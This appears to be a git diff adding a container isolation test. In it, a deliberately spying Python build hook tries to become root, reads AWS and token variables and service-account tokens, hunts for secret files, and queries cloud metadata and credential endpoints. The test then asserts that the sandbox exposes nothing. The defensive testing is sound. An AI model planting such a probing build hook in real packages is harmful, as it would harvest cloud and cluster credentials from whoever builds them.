@@ -1,10 +1,12 @@
 """The image, built and run for real: three containers with their own addresses train together."""
 
+import ast
 import json
 import os
 import shutil
 import subprocess
 import sys
+from collections.abc import Sequence
 from pathlib import Path
 
 import pytest
@@ -13,17 +15,20 @@ from containers import BASE, COLLECTIVE, IMAGE, PROJECT, Cluster, Podman, jobs
 from paddle_node import contract
 from paddle_node.volume.job_folder import JobFolder
 
+from tests.image.test_built_environment import sdist
+
 pytestmark = [pytest.mark.container, pytest.mark.slow]
 PASSES = 5
 
 
 def inside(
-    podman: Podman, *command: str, check: bool = True, image: str = IMAGE
+    podman: Podman, *command: str, check: bool = True, image: str = IMAGE, flags: Sequence[str] = ()
 ) -> subprocess.CompletedProcess[str]:
     """Runs a command in a container like the pods': read-only root, no capabilities, the image's
     own user.
     """
     flags = [
+        *flags,
         "--rm",
         "--read-only",
         "--read-only-tmpfs=false",
@@ -310,3 +315,96 @@ def test_a_base_that_has_paddle_keeps_it_as_it_is(podman: Podman) -> None:
         print(f"added to the base: {(sizes[1] - sizes[0]) / 1e6:.0f} MB")
     finally:
         podman.run("rmi", "--force", image, base, check=False)
+
+
+SPY = """
+import glob, os, urllib.request, zipfile
+
+def ask(url):
+    try:
+        return urllib.request.urlopen(url, timeout=1).read(100)
+    except Exception as error:
+        return type(error).__name__
+
+def become_root():
+    try:
+        return os.setuid(0)
+    except OSError as error:
+        return type(error).__name__
+
+def build_wheel(folder, config_settings=None, metadata_directory=None):
+    jobpath = "/home/jobpath"
+    status = dict(line.split(":\\t", 1) for line in open("/proc/self/status").read().splitlines())
+    found = {
+        "user": (os.getuid(), os.getgid(), become_root()),
+        "rights": [status[name] for name in ("CapEff", "CapBnd", "NoNewPrivs")],
+        "variables": sorted(name for name in os.environ if "AWS" in name or "TOKEN" in name),
+        "tokens": glob.glob("/var/run/secrets/*/*"),
+        "volume": sorted(os.listdir(jobpath)),
+        "environments": sorted(os.listdir(jobpath + "/shared/environments")),
+        "secrets": sorted(os.path.join(path, name) for path, _, names in os.walk("/")
+                          for name in names if name == "s3cret"),
+        "writable": [path for path in ("/", "/opt/paddle", "/opt/venv", jobpath,
+                                       jobpath + "/shared/environments", jobpath + "/wheels",
+                                       "/opt/paddle/requirements") if os.access(path, os.W_OK)],
+        "answers": [ask(url) for url in (
+            "http://169.254.169.254/latest/meta-data/",
+            "http://169.254.170.23/v1/credentials",
+            "https://kubernetes.default.svc/api",
+            "https://s3.amazonaws.com/",
+        )],
+    }
+    name = "curious-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(os.path.join(folder, name), "w") as wheel:
+        info = "curious-1.0.dist-info/"
+        wheel.writestr("curious.py", f"print({found!r})")
+        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: curious\\nVersion: 1.0\\n")
+        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\n"
+                       "Tag: py3-none-any\\n")
+        wheel.writestr(info + "RECORD", "")
+    return name
+"""
+
+
+def test_a_package_that_spies_while_it_is_built_finds_nothing(cluster: Cluster) -> None:
+    """In a container of the reviewed manifest, with its user, its rights and its mounts. What else
+    lies on the volume is nowhere to be seen.
+    """
+    documents = list(
+        yaml.safe_load_all((PROJECT / "tests/charts/golden/built-environment-wheels.yaml").open())
+    )
+    (job,) = (
+        document
+        for document in documents
+        if document["kind"] == "Job" and "-environment-" in document["metadata"]["name"]
+    )
+    pod = job["spec"]["template"]["spec"]
+    assert pod["automountServiceAccountToken"] is False
+    (requirements,) = (volume for volume in pod["volumes"] if "configMap" in volume)
+    settings = {requirements["configMap"]["name"]: {"requirements.txt": "curious\n"}}
+    volume = cluster.volume
+    for place in ("words/output", "shared/environments/another", "wheels"):
+        (volume / place).mkdir(parents=True)
+        (volume / place / "s3cret").write_text("of another job")
+    sdist(volume / "wheels", "curious", SPY)
+    name = cluster.start(job | {"settings": settings}, isolated=True)
+    assert cluster.codes(name) == [0], cluster.logs(name)
+    (digest,) = {path.name for path in volume.glob("shared/environments/*")} - {"another"}
+    # As a pod unpacks it.
+    environment = volume / "shared/environments" / digest
+    unpack = "cd /opt/paddle && python3 -m paddle_node.requirements.archive /home/jobpath /tmp/it"
+    mount = ("--volume", f"{environment}:/home/jobpath:ro")
+    shell = ("sh", "-c", f"{unpack} && /tmp/it/bin/python -c 'import curious'")
+    report = inside(cluster.podman, *shell, flags=mount).stdout
+    none = "0" * 16
+    assert ast.literal_eval(report) == {
+        "user": (contract.UID, contract.GID, "PermissionError"),
+        "rights": [none, none, "1"],
+        "variables": [],
+        "tokens": [],
+        "volume": ["shared", "wheels"],
+        "environments": [digest],
+        "secrets": ["/home/jobpath/wheels/s3cret"],
+        "writable": [],
+        "answers": ["URLError"] * 4,
+    }
